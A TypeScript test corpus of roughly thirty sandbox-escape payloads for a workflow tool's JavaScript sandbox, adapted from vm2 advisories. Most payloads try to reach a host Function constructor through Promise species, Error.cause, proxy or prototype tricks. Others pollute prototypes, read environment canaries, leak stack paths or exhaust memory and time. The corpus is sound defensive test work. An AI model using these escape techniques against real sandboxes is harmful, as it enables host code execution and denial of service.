// vm2 advisories of 2026 that attack vm2's host/sandbox bridge (Promises, errors, proxies, stack
// formatting, intrinsic prototypes), adapted to Gigaflow's sandbox. Titles follow the advisory /
// vm2's test/ghsa/<id>/repro.js header. Gigaflow has no embedder-exposed host objects in vm2's
// sense: the host-side things a payload can touch are the $-helpers ($input, $, $node, DateTime,
// $json …), so "a host object" below means one of those, and every payload is marked "(shape)".
// Each payload tries to reach a host `Function` and run ESCALATE (see escape-corpus.ts); reaching
// the end without escaping is the expected outcome.
import type { EscapePayload } from './escape-corpus.ts';
import { ESCALATE } from './escape-corpus.ts';

/** Values the sandbox gets from the host API: the objects a bridge bug would hand over raw. */
const HOST_VALUES = `[$input, $input.all(), $input.first(), $json, $('Webhook'), $('Webhook').all(), $node, $now, DateTime, $execution, $workflow, $vars]`;

export const vm2BridgeCorpus: EscapePayload[] = [
  {
    id: 'GHSA-248r-7h7q-cr24',
    title: 'vm2: async generator yield*-return thenable captures a host exception (shape)',
    code: `
      async function* helper() { yield* { [Symbol.asyncIterator]: () => ({ next: (v) => ({ value: () => v, done: false }), throw: (v) => ({ value: () => v, done: false }) }) }; }
      async function doCatch(f) { const i = helper(); await i.next(); const w = await i.return({ then(r) { f(); r(); } }); return typeof w.value === 'function' ? w.value() : w.value; }
      function so(d) { if (d > 0) so(d - 1); const e = new Error(); e.stack; throw e; }
      const caught = [];
      for (const f of [() => so(50), () => so(2000), () => $('Nope'), () => $input.item.json.x.y.z, () => DateTime.fromISO({})]) {
        try { caught.push(await doCatch(f)); } catch (e) { caught.push(e); }
      }
      for (const e of caught) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return caught.length;`,
  },
  {
    id: 'GHSA-27g9-p43v-cw3v',
    title: 'vm2: attacker Promise species survives Promise.prototype.finally (stale then-lookup protector) (shape)',
    code: `
      const seen = [];
      class Evil { constructor(executor) { executor((v) => seen.push(v), (e) => seen.push(e)); } }
      const p = (async () => { (function so() { new Error().stack; so(); })(); })();
      Object.defineProperty(p, 'constructor', { value: { [Symbol.species]: Evil }, configurable: true });
      try { p.finally(() => {}); } catch (e) { seen.push(e); }
      try { p.then(() => {}, () => {}); } catch (e) { seen.push(e); }
      await null; await null; await null;
      for (const v of seen) { try { const F = v.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return seen.length;`,
  },
  {
    id: 'GHSA-2v2p-6j97-cjg9',
    title: 'vm2: rejected host promise delivered outside the apply path (construct, getter, callback) is left unhandled (shape)',
    code: `
      const tries = [];
      for (const f of [$input.all, $input.first, DateTime.now, DateTime.fromISO, $]) {
        try { tries.push(Reflect.construct(f, ['Webhook'])); } catch (e) { tries.push(e.message); }
        try { tries.push(new f('Nope')); } catch (e) { tries.push(e.message); }
      }
      Promise.reject(new Error('ignored on purpose'));
      (async () => { throw new Error('ignored async'); })();
      return tries.length;`,
  },
  {
    id: 'CVE-2026-92953 / GHSA-3vgf-8m4q-q4qr',
    title: 'vm2: host TypedArray / ArrayBuffer / iterator intrinsic prototype pollution (shape)',
    code: `
      const lookupGetter = ({}).__lookupGetter__;
      const protoGetter = Function.prototype.apply.apply(lookupGetter, [${HOST_VALUES}[0], ['__proto__']]);
      const targets = [];
      for (const v of [new Uint8Array(1), new ArrayBuffer(1), [].values(), new DataView(new ArrayBuffer(1)), ...${HOST_VALUES}]) {
        try { let p = protoGetter.call(v); while (p) { targets.push(p); p = protoGetter.call(p); } } catch (e) {}
      }
      for (const t of targets) {
        try { Reflect.defineProperty(t, 'POLL_GIGAFLOW', { value: 'x', configurable: true }); } catch (e) {}
        try { t.POLL_GIGAFLOW = 'x'; } catch (e) {}
      }
      try { Object.defineProperty(Object.getPrototypeOf([].values()), 'next', { value() { return { value: 'PWN', done: false }; } }); } catch (e) {}
      return targets.length;`,
  },
  {
    id: 'GHSA-489w-w794-jq94',
    title: "vm2: a host Buffer's .buffer exposes Node's shared 64 KiB allocation pool (shape: binary data handed to the sandbox)",
    code: `
      const out = [];
      const bin = $input.first().binary;
      for (const v of [bin, bin && bin.file, bin && bin.file && bin.file.data, $json, $input.first()]) {
        for (const k of ['buffer', 'parent', 'data']) {
          try { const ab = v && v[k]; if (ab && typeof ab.byteLength === 'number') { out.push(ab.byteLength); out.push(String.fromCharCode(...new Uint8Array(ab).slice(0, 65536))); } } catch (e) {}
        }
      }
      try { out.push(typeof Buffer); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'GHSA-633r-hq9m-c4ff',
    title: 'vm2: read-only host object bypass through an accessor setter (shape: lookupSetter on host data)',
    code: `
      const out = [];
      for (const v of ${HOST_VALUES}) {
        for (const k of Reflect.ownKeys(Object(v))) {
          try { const s = Object.prototype.__lookupSetter__.call(v, k); if (s) { s.call(v, () => 'pwned'); out.push(String(k)); } } catch (e) {}
        }
      }
      try { $vars.region = 'pwned'; } catch (e) {}
      try { $workflow.name = 'pwned'; } catch (e) {}
      try { $input.first().json.name = 'pwned-in-place'; } catch (e) {}
      try { $('Webhook').first().json.id = 999; } catch (e) {}
      return out;`,
  },
  {
    id: 'GHSA-6454-5x88-m6jw',
    title: 'vm2: Symbol.species on a host Promise plus .then() without onRejected re-throws the raw host rejection (shape)',
    code: `
      const got = [];
      const p = (async () => $('Nope'))();
      try { p.constructor = { [Symbol.species]: function (ex) { ex(() => {}, (e) => got.push(e)); } }; } catch (e) {}
      try { Reflect.apply(Promise.prototype.then, p, [() => {}]); } catch (e) { got.push(e); }
      try { p.then(() => {}); } catch (e) { got.push(e); }
      try { await p; } catch (e) { got.push(e); }
      for (const e of got) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return got.length;`,
  },
  {
    id: 'CVE-2026-47686 / GHSA-m283-3h24-438v',
    title: 'vm2: missing Error.cause sanitization: a host error whose cause is a powerful host object reaches the sandbox (shape)',
    code: `
      const got = [];
      const callbacks = [() => $input.all().map(() => { throw new Error('cb', { cause: $input }); }), () => $('Nope'), () => DateTime.fromISO({ toString() { throw new Error('t', { cause: DateTime }); } })];
      for (const f of callbacks) { try { f(); } catch (e) { let c = e; for (let i = 0; c && i < 5; i++) { got.push(c); c = c.cause; } } }
      try { await Promise.reject(new Error('r', { cause: $node })); } catch (e) { got.push(e, e.cause); }
      for (const e of got) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return got.length;`,
  },
  {
    id: 'CVE-2026-92937 / GHSA-647f-g98j-qq25',
    title: 'vm2: Error.cause rejection rebuild bypassed through call/apply indirection (shape)',
    code: `
      const got = [];
      const p = (async () => { try { $('Nope'); } catch (e) { throw new Error('wrap', { cause: e }); } })();
      const then = Promise.prototype.then;
      await Function.prototype.call.call(then, p, undefined, (e) => got.push(e, e && e.cause));
      await Reflect.apply(then, Promise.reject(new AggregateError([new Error('a')], 'agg', { cause: $input })), [undefined, (e) => got.push(e, e.cause, ...e.errors)]);
      for (const e of got) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return got.length;`,
  },
  {
    id: 'GHSA-6j2x-vhqr-qr7q',
    title: 'vm2: WebAssembly JSPI (promising / Suspending) returns host-realm promises for a species bypass (shape)',
    code: `
      const out = [typeof WebAssembly, typeof (globalThis.WebAssembly && WebAssembly.promising), typeof (globalThis.WebAssembly && WebAssembly.Suspending)];
      try {
        const q = WebAssembly.promising(() => 0)();
        q.constructor = { [Symbol.species]: function (ex) { ex(() => {}, (e) => { const F = e.constructor.constructor; ${ESCALATE('F')} }); } };
        q.finally(() => {});
      } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'GHSA-76w7-j9cq-rx2j',
    title: "vm2: Promise species in the sandbox Promise's swallow tail (shape)",
    code: `
      const got = [];
      class P extends Promise { static get [Symbol.species]() { return function (ex) { ex((v) => got.push(v), (e) => got.push(e)); }; } }
      const p = new P((res, rej) => rej(new Error('x')));
      try { p.then(undefined, undefined); } catch (e) {}
      try { p.catch(() => {}); } catch (e) {}
      await null; await null;
      for (const e of got) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return got.length;`,
  },
  {
    id: 'GHSA-c4cf-2hgv-2qv6',
    title: "vm2: bridge set trap ignores the receiver: writes to an object inheriting from a host proxy land on the host object (shape)",
    code: `
      const out = [];
      for (const v of ${HOST_VALUES}) {
        try { const child = Object.create(v); child.polluted = 'x'; child.name = 'pwned'; child.first = () => 'pwned'; out.push(Object.hasOwn(child, 'polluted')); } catch (e) { out.push(e.message); }
      }
      return out;`,
  },
  {
    id: 'GHSA-cfcw-xp6x-25gj',
    title: 'vm2: stacked call/apply/bind indirection around dangerous host functions (shape)',
    code: `
      const c = Function.prototype.call, a = Function.prototype.apply, b = Function.prototype.bind;
      const lookupGetter = ({}).__lookupGetter__, lookupSetter = ({}).__lookupSetter__;
      const tries = [
        () => c.call(c, lookupGetter, $input, '__proto__'),
        () => a.call(a, lookupGetter, [$input, ['__proto__']]),
        () => b.call(b, lookupGetter, $input)('__proto__'),
        () => c.call(c.bind(c), lookupSetter, $input, '__proto__'),
      ];
      for (const t of tries) {
        try { const g = t(); const p = g && g.call($input); const F = p && p.constructor.constructor; if (F) { ${ESCALATE('F')} } } catch (e) {}
      }
      return 'done';`,
  },
  {
    id: 'GHSA-f8gf-w286-fmq2',
    title: 'vm2: async-disabled sandbox bypass through thenable assimilation (shape: thenables resolved by the host)',
    code: `
      const got = [];
      const thenable = { then(res, rej) { got.push(res, rej); res(1); } };
      try { await thenable; } catch (e) {}
      try { await Promise.resolve(thenable); } catch (e) {}
      for (const f of got) { try { const F = f.constructor; ${ESCALATE('F')} } catch (x) {} }
      return { thenable, got: got.length };`,
  },
  {
    id: 'CVE-2026-92954 / GHSA-gjq8-xm47-88rc',
    title: 'vm2: a host-returned promise rejection bypasses the unhandled-rejection hardening and ends the host (shape)',
    code: `
      (async () => { $('Nope'); })();
      (async () => { DateTime.fromISO(Symbol('x')); })();
      new Promise((r, j) => j(Symbol('reject with a symbol')));
      (async function* () { throw $input; })().next();
      return 'left unhandled';`,
  },
  {
    id: 'CVE-2026-92933 / GHSA-r273-hxvj-fxhp',
    title: 'vm2: util.getCallSites() bypasses host-frame redaction (shape: any call-site API)',
    code: `
      const out = [];
      try { out.push(JSON.stringify(require('util').getCallSites())); } catch (e) { out.push(e.message); }
      try { out.push(JSON.stringify(process.getBuiltinModule('node:util').getCallSites())); } catch (e) { out.push(e.message); }
      try { Error.stackTraceLimit = Infinity; Error.prepareStackTrace = (e, s) => s.map((c) => String(c.getScriptNameOrSourceURL && c.getScriptNameOrSourceURL()) + c.getFileName()); $('Nope'); } catch (e) { out.push(e.stack); }
      return out;`,
  },
  {
    id: 'GHSA-j89j-5m6r-cr2q',
    title: 'vm2: calling a sloppy-mode host function without a receiver binds `this` to the host global (shape)',
    code: `
      const out = [];
      const fns = [$input.all, $input.first, $input.last, $input.item && (() => $input.item), $, DateTime.now, DateTime.fromISO, $now.plus, $now.toISO];
      for (const f of fns) {
        for (const call of [() => f(), () => f.call(undefined), () => f.call(null), () => Reflect.apply(f, undefined, []), () => (0, f)()]) {
          try { const r = call(); if (r && r.process) out.push(r.process.env.GIGAFLOW_CANARY); } catch (e) { if (e && e.process) out.push(e.process.env.GIGAFLOW_CANARY); }
        }
      }
      return out;`,
  },
  {
    id: 'CVE-2026-92934 / GHSA-x965-fc75-jpqh',
    title: 'vm2: AggregateError revisited in one sanitizing walk (self / mutual cycle) returns unsanitized host errors (shape)',
    code: `
      const hostErrors = [];
      for (const f of [() => $('Nope'), () => $input.all().x.y, () => DateTime.fromISO(Symbol())]) { try { f(); } catch (e) { hostErrors.push(e); } }
      const agg = new AggregateError(hostErrors, 'agg');
      agg.errors.push(agg); agg.cause = agg;
      const agg2 = new AggregateError([agg], 'agg2'); agg.errors.push(agg2);
      try { throw agg2; } catch (e) {
        for (const inner of [e, ...e.errors, ...(e.errors[0] && e.errors[0].errors || [])]) { try { const F = inner.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      }
      return 'walked';`,
  },
  {
    id: 'GHSA-x6m4-chr9-cg97',
    title: 'vm2: host file-system paths leak through a host-realm error stack (eval / Function-constructor frames)',
    code: `
      const out = [];
      try { eval('$("Nope")'); } catch (e) { out.push(String(e.stack)); }
      try { new Function('return $("Nope")')(); } catch (e) { out.push(String(e.stack)); }
      try { DateTime.fromISO({ toString() { throw new Error('inner'); } }); } catch (e) { out.push(String(e.stack)); }
      try { $input.all().map(() => { throw new Error('cb'); }); } catch (e) { out.push(String(e.stack)); }
      return out;`,
  },
  {
    id: 'GHSA-v6mx-mf47-r5wg',
    title: "vm2: host intrinsic prototype severance through the host __proto__ setter (shape)",
    code: `
      const setter = ({}).__lookupSetter__('__proto__');
      const out = [];
      for (const v of ${HOST_VALUES}) {
        try { setter.call(v, null); out.push('severed'); } catch (e) {}
        try { Object.setPrototypeOf(v, { get constructor() { return Function; } }); } catch (e) {}
        try { const F = v.constructor.constructor; ${ESCALATE('F')} } catch (e) {}
      }
      return out;`,
  },
  {
    id: 'CVE-2026-44006 / GHSA-qcp4-v2jj-fjx8',
    title: 'vm2: trap method of a leaked proxy handler called with a forged target (BaseHandler.getPrototypeOf) (shape)',
    code: `
      const out = [];
      for (const v of ${HOST_VALUES}) {
        try {
          const handler = Object.getOwnPropertyDescriptor(v, 'handler') || v.handler || v.__handler;
          if (handler && typeof handler.getPrototypeOf === 'function') { const p = handler.getPrototypeOf(Object); const F = p.constructor.constructor; ${ESCALATE('F')} }
        } catch (e) { out.push(e.message); }
      }
      return out.length;`,
  },
  {
    id: 'GHSA-q3fm-4wcw-g57x',
    title: "vm2: Array.prototype[N] setter fires while the stack-trace formatter builds frames (shape)",
    code: `
      const seen = [];
      for (let i = 0; i < 8; i++) { try { Object.defineProperty(Array.prototype, i, { configurable: true, set(v) { seen.push(v, this); }, get() { return undefined; } }); } catch (e) {} }
      try { $('Nope'); } catch (e) { e.stack; }
      try { null.x; } catch (e) { e.stack; }
      new Error('x').stack;
      for (const v of seen) { try { const F = v.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      for (let i = 0; i < 8; i++) { try { delete Array.prototype[i]; } catch (e) {} }
      return seen.length;`,
  },
  {
    id: 'GHSA-m5q2-4fm3-vfqp',
    title: 'vm2: cross-realm Symbol.for("nodejs.*") keys plus missing write-trap symbol checks (shape)',
    code: `
      const keys = ['nodejs.util.inspect.custom', 'nodejs.rejection', 'nodejs.util.promisify.custom', 'nodejs.worker_threads.kTransferable', 'nodejs.stream.destroyed', 'nodejs.dispose'];
      const out = [];
      for (const k of keys) {
        const s = Symbol.for(k);
        for (const v of ${HOST_VALUES}) {
          try { v[s] = (...args) => { for (const a of args) { try { const F = a.constructor.constructor; ${ESCALATE('F')} } catch (x) {} } }; out.push(k); } catch (e) {}
        }
      }
      return { n: out.length, planted: { [Symbol.for('nodejs.util.inspect.custom')]: () => 'x' } };`,
  },
  {
    id: 'GHSA-jf8q-945g-9q4c',
    title: 'vm2: unblocked nodejs.stream.disturbed / errored cross-realm brand symbols on web streams (shape)',
    code: `
      const out = [typeof ReadableStream, typeof Response, typeof Blob];
      try {
        const rs = new ReadableStream();
        const d = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(rs), Symbol.for('nodejs.stream.disturbed'));
        const F = d.get.constructor; ${ESCALATE('F')}
      } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-92956 / GHSA-wjwh-qqvp-g4p4',
    title: 'vm2: WebAssembly.compileStreaming / instantiateStreaming host promise with a finally species bypass (shape)',
    code: `
      const got = [];
      for (const f of ['compileStreaming', 'instantiateStreaming']) {
        try {
          const q = WebAssembly[f]({});
          q.constructor = { [Symbol.species]: function (ex) { ex(() => {}, (e) => got.push(e)); } };
          q.finally(() => {}); q.catch(() => {});
        } catch (e) { got.push(e); }
      }
      await null; await null;
      for (const e of got) { try { const F = e.constructor.constructor; ${ESCALATE('F')} } catch (x) {} }
      return got.length;`,
  },
  {
    id: 'GHSA-r4fx-v8hh-22mv',
    title: 'vm2: FinalizationRegistry cleanup callback runs after the time limit (timeout bypass)',
    code: `
      const out = [typeof FinalizationRegistry, typeof WeakRef];
      try {
        const reg = new FinalizationRegistry(() => { globalThis.__gcLoop = true; while (true) {} });
        for (let i = 0; i < 1000; i++) reg.register({ i }, i);
        out.push('registered');
      } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'GHSA-v836-6xw4-9cx3',
    title: 'vm2: allocation limit bypass through ArrayBuffer / SharedArrayBuffer / TypedArray constructors (host memory DoS)',
    code: `
      const out = [];
      for (const make of [() => new ArrayBuffer(2 ** 31), () => new Float64Array(2 ** 28), () => new SharedArrayBuffer(2 ** 31), () => new ArrayBuffer(8, { maxByteLength: 2 ** 33 }).resize(2 ** 32)]) {
        try { const v = make(); out.push(v && v.byteLength); } catch (e) { out.push(e.message); }
      }
      return out;`,
  },
  {
    id: 'GHSA-gmc2-2x9w-cgh9',
    title: 'vm2: allocation limit bypass through Buffer.concat / Buffer.from(arrayLike) (shape: array and string growth)',
    code: `
      const out = [];
      try { out.push(Buffer.concat([Buffer.alloc(2 ** 20)], 2 ** 31).length); } catch (e) { out.push(e.message); }
      try { out.push(Array.from({ length: 2 ** 31 }).length); } catch (e) { out.push(e.message); }
      try { out.push('x'.repeat(2 ** 30).length); } catch (e) { out.push(e.message); }
      try { out.push(new Uint8Array({ length: 2 ** 31 }).length); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-92947 / GHSA-fcqc-726x-5wfc',
    title: "vm2: sandbox reads and writes host memory through Node's shared Buffer pool (shape)",
    code: `
      const out = [];
      try { const b = Buffer.from('a'); out.push(b.buffer.byteLength, b.byteOffset); } catch (e) { out.push(e.message); }
      try { const u = new TextEncoder().encode('a'); out.push(u.buffer.byteLength); } catch (e) { out.push(e.message); }
      try { const c = require('crypto'); const h = c.createHash('sha256').update('x').digest('hex'); out.push(h.length); } catch (e) { out.push(e.message); }
      return out;`,
  },
];
